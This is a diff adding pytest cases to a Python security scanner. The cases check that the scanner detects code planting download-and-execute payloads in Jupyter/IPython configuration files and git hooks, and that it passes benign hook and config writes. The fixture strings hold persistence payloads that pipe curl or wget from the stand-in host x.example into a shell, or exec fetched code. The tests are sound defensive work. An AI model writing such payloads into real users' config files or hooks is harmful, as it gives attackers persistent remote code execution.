@@ -11,7 +11,7 @@ import pytest
 from caplet._findings import Severity
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_source
-from tests._scan.prefilterkit import found_in_a_package
+from tests._scan.prefilterkit import found_in_a_package, tree_both_ways
 
 
 def danger(source: str, filename: str = "mod.py") -> set[str]:
@@ -553,3 +553,54 @@ def test_a_completion_line_or_a_local_cron_job_is_no_threat() -> None:
     cron.write()
     """
     assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()
+
+
+#: blind15 (tune b15-ot-jupyter-config-append, -git-hook-persist): files other programs
+#: run as code without importing them by name: a Jupyter server's or IPython's own
+#: configuration (Python run at every start), a git hook (run at every checkout or
+#: commit, wherever `core.hooksPath` points); written with a download that runs.
+RUN_BY_OTHERS = [
+    "from pathlib import Path\n"
+    "cfg = Path.home() / '.jupyter' / 'jupyter_server_config.py'\n"
+    "with cfg.open('a') as fh:\n"
+    '    fh.write(\'import urllib.request\\nexec(urllib.request.urlopen("https://x.example/p")'
+    ".read())\\n')\n",
+    "import os\n"
+    "p = os.path.expanduser('~/.ipython/profile_default/ipython_config.py')\n"
+    "open(p, 'a').write('import os\\nos.system(\"curl -s https://x.example/s | sh\")\\n')\n",
+    "from pathlib import Path\n"
+    "hook = Path.home() / '.config' / 'git-hooks' / 'post-checkout'\n"
+    "hook.write_text('#!/bin/sh\\ncurl -s https://x.example/h | sh\\n')\n",
+    "open('.git/hooks/pre-commit', 'w')"
+    ".write('#!/bin/sh\\nwget -qO- https://x.example/h | bash\\n')\n",
+]
+
+
+@pytest.mark.parametrize("source", RUN_BY_OTHERS)
+def test_a_download_written_into_a_file_another_program_runs_is_a_threat(source: str) -> None:
+    assert danger(source)
+
+
+@pytest.mark.parametrize("source", RUN_BY_OTHERS)
+def test_files_other_programs_run_are_found_with_the_prefilter_too(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    (tmp_path / "mod.py").write_text(source, encoding="utf-8")
+    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
+    assert whole
+    assert filtered == whole
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # pre-commit installing its hook: the script runs pre-commit, downloads nothing
+        "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\nexec pre-commit run \"$@\"\\n')\n",
+        # a Jupyter extension enabling itself in the user's configuration
+        "from pathlib import Path\n"
+        "cfg = Path.home() / '.jupyter' / 'jupyter_server_config.py'\n"
+        "cfg.write_text(\"c.ServerApp.jpserver_extensions = {'myext': True}\\n\")\n",
+    ],
+)
+def test_configuration_and_hooks_that_download_nothing_are_not_threats(source: str) -> None:
+    assert not danger(source)
